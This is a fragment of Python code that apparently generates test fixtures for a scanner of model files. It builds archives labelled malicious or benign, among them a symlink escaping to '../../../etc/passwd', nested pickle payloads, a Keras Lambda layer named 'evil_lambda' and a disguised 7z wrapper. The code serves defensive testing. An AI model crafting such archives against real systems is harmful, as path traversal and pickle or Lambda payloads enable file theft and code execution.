    deep = _payload_pickle()
    for i in range(5):
        deep = _tar({f"level{i}.bin": deep})
    add(write("tar_depth_bomb.tar", deep), "malicious", "tar nested 5 deep (bounded)", "inconclusive")
    add(write("tar_symlink.tar", _tar({"model.bin": b"\x00" * 8}, links={"config.json": "../../../etc/passwd"})),
        "malicious", "tar symlink escaping the folder", "malicious")
    add(write("tar_keras_inside.tar", _tar({"models/m.keras": _keras_zip(_v3_model([lam]))})), "malicious",
        "tar wrapping a .keras with a Lambda", "malicious", "Lambda.evil_lambda")
    add(write("tar_benign.tar", _tar({"README.md": b"# tiny\n", "weights.pt": sd})), "benign", "tar", "clean")
    sevenz = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + gzip.compress(_payload_pickle())
    add(write("wrapped.7z", sevenz), "malicious", "7z wrapper (not readable)", "inconclusive")
    return out
